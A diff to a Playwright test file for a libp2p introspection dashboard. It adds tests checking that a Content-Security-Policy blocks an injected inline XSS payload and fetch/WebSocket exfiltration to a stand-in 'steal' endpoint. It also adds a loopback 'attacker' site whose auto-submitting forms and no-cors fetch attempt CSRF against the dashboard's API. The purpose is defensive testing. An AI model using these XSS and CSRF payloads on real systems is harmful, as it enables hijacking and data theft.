@@ -28,6 +28,7 @@ CHROMIUM = Path(os.environ.get("LIBP2P_INTROSPECTION_CHROMIUM", "/usr/bin/chromi
 CHROMIUM_ARGS = [
     "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
     "--disable-background-networking", "--disable-component-update", "--disable-sync",
+    "--host-resolver-rules=MAP evil.test 127.0.0.1",  # another site, on loopback
 ]  # fmt: skip
 ARTIFACTS = Path(__file__).resolve().parents[2] / "test-artifacts" / "dashboard"
 SAMPLE_PEER = "8de3166db28fddb199f05be0acea65772e7a1b289086902160d1060e83dac2fd"
@@ -504,3 +505,105 @@ def test_hostile_strings_from_a_server_and_a_recording_show_as_text(
         expect(page.locator("#conn-state")).not_to_have_text("connected")
         assert_nothing_ran(page)
 
+
+def test_the_page_runs_under_a_csp_that_stops_injected_script_and_foreign_requests(
+    page: Any, demo: dict[str, str]
+):  # fmt: skip
+    from playwright.sync_api import expect
+
+    response = page.goto(demo["dashboard"])
+    policy = response.headers.get("content-security-policy", "")
+    assert "script-src 'self'" in policy and "unsafe-inline" not in policy, policy
+    assert "unsafe-eval" not in policy and "frame-ancestors 'none'" in policy, policy
+    expect(page.locator("#conn-state")).to_have_text("connected")
+    expect(page.locator("#connections-table .tabulator-row").first).to_be_visible()
+    # Markup that got into the page anyway could not run script...
+    page.evaluate("""() => document.body.insertAdjacentHTML(
+        'beforeend', '<img src=x onerror="xss(\\'inline\\')">')""")
+    page.wait_for_function("() => window.__csp.some((v) => v.startsWith('script-src'))")
+    # ...nor send what it read to another origin (fetch or WebSocket).
+    sent = page.evaluate("""() => fetch('http://127.0.0.2:9/steal', {method: 'POST', body: 'x'})
+        .then(() => 'sent', () => 'not sent')""")
+    assert sent == "not sent"
+    page.evaluate("() => { try { new WebSocket('ws://127.0.0.2:9/steal'); } catch (e) {} }")
+    page.wait_for_function(
+        "() => window.__csp.filter((v) => v.startsWith('connect-src')).length >= 2"
+    )
+    assert page.evaluate("() => window.__xss") == []
+    page.evaluate("() => { window.__csp.length = 0; }")  # these were ours, not the page's
+    page.csp_refusals.clear()
+
+
+class _AttackerPages:
+    """Another site's pages, served on loopback: each POSTs a command to the dashboard."""
+
+    def __init__(self, dashboard: str) -> None:
+        import http.server
+        import threading
+
+        target = dashboard.rstrip("/")
+        form = '{"url": "ws://127.0.0.1:9/csrf", "x": "'
+        pages = {
+            # A plain HTML form: text/plain body that parses as JSON; submitted on load.
+            "/form-connect": f"""<form method=POST action="{target}/api/connect" enctype="text/plain">
+                <input name='{form}' value='"}}'></form>
+                <script>document.forms[0].submit()</script>""",
+            "/form-pause": f"""<form method=POST action="{target}/api/pause"></form>
+                <script>document.forms[0].submit()</script>""",
+            # A script's simple request (no preflight): text/plain, sent even though the
+            # answer is unreadable.
+            "/fetch-connect": f"""<script>
+                fetch("{target}/api/connect", {{method: "POST", mode: "no-cors",
+                  headers: {{"Content-Type": "text/plain"}},
+                  body: JSON.stringify({{url: "ws://127.0.0.1:9/csrf"}})}})
+                  .catch(() => null)  // its answer is unreadable here whatever it was
+                  .finally(() => {{ document.title = "done"; }});
+                </script>""",
+        }
+
+        class Handler(http.server.BaseHTTPRequestHandler):
+            def do_GET(self) -> None:
+                body = pages.get(self.path, "").encode()
+                self.send_response(200 if body else 404)
+                self.send_header("Content-Type", "text/html")
+                self.send_header("Content-Length", str(len(body)))
+                self.end_headers()
+                self.wfile.write(body)
+
+            def log_message(self, *args: Any) -> None:
+                pass
+
+        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.port = self.server.server_address[1]
+        threading.Thread(target=self.server.serve_forever, daemon=True).start()
+
+    def close(self) -> None:
+        self.server.shutdown()
+        self.server.server_close()
+
+
+def test_another_origin_cannot_drive_the_dashboard(page: Any):
+    # Commands were taken from any loopback origin: a page on another local port (a dev
+    # server, a page the node's own tools served) could repoint the dashboard's feed.
+    import urllib.request
+
+    args = ["-m", "libp2p_introspection", "dashboard", "--port", "0", "ws://127.0.0.1:9/introspect"]
+    with running(args, first_line_timeout=60) as (_, url):
+        attacker = _AttackerPages(url)
+        try:
+            def status() -> dict[str, Any]:
+                with urllib.request.urlopen(url + "api/status", timeout=10) as response:
+                    return json.load(response)
+
+            before = status()
+            for origin in (f"http://127.0.0.1:{attacker.port}", f"http://evil.test:{attacker.port}"):
+                for path in ("/form-connect", "/form-pause"):
+                    with page.expect_response(lambda r: "/api/" in r.url) as answer:
+                        page.goto(origin + path)
+                    assert answer.value.status == 403, (origin, path, answer.value.status)
+                page.goto(origin + "/fetch-connect")
+                page.wait_for_function("() => document.title === 'done'")
+            after = status()
+            assert (after["url"], after["paused"]) == (before["url"], before["paused"]), after
+        finally:
+            attacker.close()
